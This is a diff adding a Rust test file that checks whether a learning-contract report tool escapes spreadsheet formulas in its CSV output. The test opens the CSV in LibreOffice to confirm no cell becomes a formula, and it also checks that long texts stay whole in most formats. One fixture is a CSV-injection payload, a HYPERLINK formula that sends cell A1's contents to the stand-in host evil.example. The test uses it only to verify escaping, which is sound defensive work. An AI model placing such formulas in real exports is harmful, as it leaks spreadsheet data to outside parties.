@@ -1,0 +1,189 @@
+//! What the report's files do in the tools people open them with: CSV in a spreadsheet,
+//! Markdown in a renderer, and whole texts everywhere but the terminal table.
+
+mod common;
+
+use common::Repo;
+
+const AS_OF: &str = "2026-09-30";
+
+/// An active experience contract whose application actions (overdue), supports (unmet) and
+/// follow-up notes (due soon) hold `texts`, and whose team is `team`.
+fn contract_with_texts(texts: &[&str], team: &str) -> String {
+    let quoted = |t: &str| serde_json::to_string(t).unwrap();
+    let mut yaml = format!(
+        "\
+lc: 1
+kind: experience
+id: e1
+status: active
+learner: Jane Doe <jane@example.org>
+manager: Sam Lee <sam@example.org>
+team: {}
+experience: {{title: Claims course, type: course, start: 2026-09-01, end: 2026-09-02}}
+learning: [rules]
+links: {{job: fewer errors}}
+agreed: {{learner: 2026-08-01, manager: 2026-08-01}}
+application:
+",
+        quoted(team)
+    );
+    for text in texts {
+        yaml += &format!(
+            "  - {{text: {}, kind: share, due: 2026-09-20}}\n",
+            quoted(text)
+        );
+    }
+    yaml += "supports:\n";
+    for text in texts {
+        yaml += &format!("  - {{text: {}, due: 2026-09-01}}\n", quoted(text));
+    }
+    yaml += "follow_ups:\n  - {due: 2026-09-15, done: 2026-09-15}\n";
+    for text in texts {
+        yaml += &format!("  - {{due: 2026-10-05, notes: {}}}\n", quoted(text));
+    }
+    yaml
+}
+
+fn repo_with_texts(texts: &[&str], team: &str) -> Repo {
+    let repo = Repo::plain();
+    repo.file("contracts/e1.yaml", contract_with_texts(texts, team));
+    repo
+}
+
+fn report(repo: &Repo, format: &str) -> String {
+    let run = repo.lc(&["report", "--as-of", AS_OF, "--format", format]);
+    assert_eq!(run.code, 0, "{}", run.stderr);
+    run.stdout
+}
+
+/// Texts that a spreadsheet would run as formulas, one per first character OWASP names.
+const FORMULAS: [&str; 6] = [
+    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
+    "+1+2",
+    "-1+2",
+    "@SUM(1,2)",
+    "\t=1+2",
+    "\r=1+2",
+];
+
+fn records(csv: &str) -> Vec<Vec<String>> {
+    csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(csv.as_bytes())
+        .records()
+        .map(|r| r.unwrap().iter().map(str::to_string).collect())
+        .collect()
+}
+
+#[test]
+fn no_csv_cell_starts_a_formula() {
+    let team = "=1+2";
+    let repo = repo_with_texts(&FORMULAS, team);
+    let csv = report(&repo, "csv");
+    let rows = records(&csv);
+    let header = &rows[0];
+    let column = |name: &str| header.iter().position(|h| h == name).unwrap();
+    let (section, text) = (column("section"), column("text"));
+    for wanted in ["learning not yet applied", "unmet support", "due soon"] {
+        let texts: Vec<&str> = rows
+            .iter()
+            .filter(|r| r[section] == wanted)
+            .map(|r| r[text].as_str())
+            .collect();
+        let expected: Vec<String> = FORMULAS.iter().map(|t| format!("'{t}")).collect();
+        assert_eq!(texts, expected, "{wanted}: each text behind a `'`");
+    }
+    let listed = repo
+        .lc(&["list", "--as-of", AS_OF, "--format", "csv"])
+        .stdout;
+    let list_rows = records(&listed);
+    let team_column = list_rows[0].iter().position(|h| h == "team").unwrap();
+    assert_eq!(list_rows[1][team_column], "'=1+2");
+    for cell in rows.iter().chain(&list_rows).flatten() {
+        assert!(
+            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "a cell a spreadsheet would run: {cell:?}"
+        );
+    }
+}
+
+/// The cells LibreOffice turned into formulas when it opened `csv` and saved it as xlsx.
+fn libreoffice_formulas(dir: &std::path::Path, name: &str, csv: &str) -> usize {
+    std::fs::write(dir.join(format!("{name}.csv")), csv).unwrap();
+    let profile = format!("file://{}", dir.join("profile").display());
+    let status = std::process::Command::new("soffice")
+        .arg(format!("-env:UserInstallation={profile}"))
+        .args(["--headless", "--convert-to", "xlsx", "--outdir"])
+        .arg(dir)
+        .arg(dir.join(format!("{name}.csv")))
+        .output()
+        .expect("soffice runs");
+    assert!(status.status.success(), "{status:?}");
+    let sheet = std::process::Command::new("unzip")
+        .args(["-p"])
+        .arg(dir.join(format!("{name}.xlsx")))
+        .arg("xl/worksheets/sheet1.xml")
+        .output()
+        .expect("unzip runs");
+    let xml = String::from_utf8_lossy(&sheet.stdout);
+    assert!(xml.contains("<sheetData>"), "a worksheet: {xml}");
+    xml.matches("<f>").count() + xml.matches("<f ").count()
+}
+
+/// Runs only where LibreOffice (`soffice`) and `unzip` are installed; CI does not install them.
+#[test]
+fn libreoffice_opens_the_csv_without_a_formula() {
+    let on_path = |tool: &str| {
+        std::process::Command::new("sh")
+            .args(["-c", &format!("command -v {tool}")])
+            .output()
+            .is_ok_and(|o| o.status.success())
+    };
+    if !on_path("soffice") || !on_path("unzip") {
+        eprintln!("skipped: soffice or unzip is not installed");
+        return;
+    }
+    let repo = repo_with_texts(&FORMULAS, "=1+2");
+    let csv = report(&repo, "csv");
+    let dir = tempfile::tempdir().unwrap();
+    // The same file with the quotes taken out shows that the check sees formulas at all.
+    let unsafe_csv = csv.replace(",'", ",").replace(",\"'", ",\"");
+    assert!(
+        libreoffice_formulas(dir.path(), "unsafe", &unsafe_csv) > 0,
+        "LibreOffice runs `=` cells"
+    );
+    assert_eq!(libreoffice_formulas(dir.path(), "report", &csv), 0);
+    let listed = repo
+        .lc(&["list", "--as-of", AS_OF, "--format", "csv"])
+        .stdout;
+    assert_eq!(libreoffice_formulas(dir.path(), "list", &listed), 0);
+}
+
+#[test]
+fn texts_are_whole_in_every_format_but_the_terminal_table() {
+    let long = "Plan the last quarter with the whole team, the mentor and the claims lead";
+    let repo = repo_with_texts(&[long], "Claims");
+    let json: serde_json::Value = serde_json::from_str(&report(&repo, "json")).unwrap();
+    let due_soon = json["due_soon"].as_array().unwrap();
+    let notes: Vec<&str> = due_soon
+        .iter()
+        .filter(|i| i["list"] == "follow_ups")
+        .map(|i| i["text"].as_str().unwrap())
+        .collect();
+    assert_eq!(notes, [long], "follow-up notes in due soon");
+    for format in ["csv", "markdown", "html"] {
+        let out = report(&repo, format);
+        assert_eq!(
+            out.matches(long).count(),
+            3,
+            "{format}: the overdue action, the unmet support and the follow-up due soon"
+        );
+    }
+    let table = report(&repo, "table");
+    assert!(!table.contains(long), "the table cuts texts to a line");
+    assert!(
+        table.contains("follow-up: Plan the last quarter"),
+        "{table}"
+    );
+}
